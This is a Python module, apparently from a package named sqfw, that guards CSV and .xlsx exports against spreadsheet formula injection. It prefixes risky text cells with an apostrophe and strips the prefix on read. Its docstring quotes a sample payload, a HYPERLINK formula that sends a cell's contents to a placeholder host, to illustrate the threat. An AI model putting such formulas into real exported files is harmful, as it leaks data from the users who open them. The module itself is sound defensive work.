"""Text cells a spreadsheet will never run as a formula, and their original text back.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and some also after a leading tab or carriage return (OWASP, "CSV Injection").
A name like ``=HYPERLINK("http://x/"&A1)`` in a table sqfw writes must stay a name. So
every CSV and .xlsx writer of sqfw passes its text cells through :func:`spreadsheet_text`,
which puts one apostrophe (``'``) before such a text — the mark spreadsheets themselves
use for "this is text" — and sqfw's readers pass what they read through
:func:`original_text`, which takes that apostrophe off again::

    >>> spreadsheet_text('=HYPERLINK("http://x/"&A1)')
    '\\'=HYPERLINK("http://x/"&A1)'
    >>> original_text(spreadsheet_text("=1+1"))
    '=1+1'

A plain number (``-5``, ``+1.5e3``) is left as it is: it is a number, not a formula.
A text that itself begins with an apostrophe before such a character, or before another
apostrophe, gets one more, so ``original_text(spreadsheet_text(t)) == t`` for every text.

.. versionadded:: 0.1.0
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_TRIGGERS", "original_text", "spreadsheet_text"]

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_MARK = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
"""A number and nothing else: a spreadsheet reads it as a number, never as a formula."""


def _runs(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` (or read it as more than text)."""
    return text[:1] in FORMULA_TRIGGERS and _PLAIN_NUMBER.fullmatch(text) is None


def _marked(text: str) -> bool:
    """Whether ``text`` is a marked text: the apostrophe, then what needed it."""
    rest = text[1:]
    return text[:1] == _MARK and (rest[:1] == _MARK or _runs(rest))


def spreadsheet_text(text: str) -> str:
    """``text`` as a cell a spreadsheet shows as text and never runs.

    Args:
        text: a text cell's content (a name, a note); not a number written as a number.

    Returns:
        ``text`` itself, or ``text`` after one apostrophe when it begins with ``=``, ``+``,
        ``-``, ``@``, a tab or a carriage return (and is not a plain number), or with an
        apostrophe before one of those or before another apostrophe.

    .. versionadded:: 0.1.0
    """
    if _runs(text) or _marked(text):
        return _MARK + text
    return text


def original_text(text: str) -> str:
    """The text :func:`spreadsheet_text` was given, from the cell it made.

    Args:
        text: a cell as read from a CSV or .xlsx file.

    Returns:
        ``text`` without the apostrophe :func:`spreadsheet_text` put before it, if any.

    .. versionadded:: 0.1.0
    """
    return text[1:] if _marked(text) else text
